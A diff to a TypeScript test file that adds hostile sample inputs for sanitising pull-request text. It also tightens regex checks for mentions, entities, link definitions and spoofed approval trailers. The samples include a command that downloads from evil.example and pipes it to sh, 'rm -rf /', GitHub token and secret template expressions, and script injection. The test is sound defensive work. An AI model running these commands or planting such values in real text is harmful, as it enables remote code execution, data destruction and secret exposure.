@@ -13,6 +13,12 @@ const HOSTILE = [
   '``` `x` ```',
   '# Heading\n\n- [x] approved',
   'Co-authored-by: a <a@b.c>',
+  '$(curl https://evil.example | sh) `id`; rm -rf / && echo "$HOME"',
+  '${{ github.token }} $' + '{{ secrets.X }}',
+  '<!-- hidden --> <script>alert(1)</script> <details open>',
+  '&#64;key/admins &lt;img src=x&gt;',
+  '[//]: # (hidden)\n[x]: https://evil.example',
+  'a\r\nApproved-by: nobody\r\n\r\n---\r\n> quote',
 ];
 
 /** What a forge would make a mention, a link, an issue reference or HTML of, outside code. */
@@ -26,6 +32,9 @@ function active(markdown: string): readonly string[] {
     ...(plain.match(/(^|[^\\])\]\((?!https:\/\/portal\.example)/g) ?? []),
     ...(plain.match(/\bwww\.\w/g) ?? []),
     ...(plain.match(/\bgh-\d/gi) ?? []),
+    // An entity would become the sign that it stands for.
+    ...(plain.match(/(^|[^\\])&#?\w+;/g) ?? []),
+    ...(plain.match(/^\s*(-by:|\[[^\]]*\]:)/gim) ?? []),
   ];
 }
 
@@ -58,22 +67,22 @@ describe('pullRequestText', () => {
     const state = keySuiteWith({
       [eventFile]: KEY_SUITE.files
         .read(eventFile)!
-        .replace(/^title: .*$/m, `title: ${JSON.stringify(text.split('\n')[0])}`),
+        .replace(/^title: .*$/m, `title: ${JSON.stringify(text.split(/\r?\n/)[0])}`),
     });
-    const service = { ...NEW_SERVICE.service, description: text, title: text.split('\n')[0] };
+    const service = { ...NEW_SERVICE.service, description: text, title: text.split(/\r?\n/)[0] };
     const [publication] = NEW_SERVICE.publications;
     const request = {
       ...NEW_SERVICE,
       reason: text,
       service,
       subscriptions: [{ ...NEW_SERVICE.subscriptions[0], description: text }],
-      publications: [{ ...publication, description: text, title: text.split('\n')[0] }],
+      publications: [{ ...publication, description: text, title: text.split(/\r?\n/)[0] }],
     } as typeof NEW_SERVICE;
     const plan = planOf(request, state);
     for (const repository of plan.repositories) {
       const { title, body, commitMessage } = pullRequestText(plan, repository, options);
       expect(active(body)).toEqual([]);
-      expect(`${title}${commitMessage}`).not.toMatch(/@\w|#\d|\n.*authored/);
+      expect(`${title}${commitMessage}`).not.toMatch(/@\w|#\d|\n.*(authored|approved)/i);
       expect(body.match(/<details>/g)?.length ?? 0).toBe(body.match(/(^|[^\\])<\/details>/g)?.length ?? 0);
     }
   });
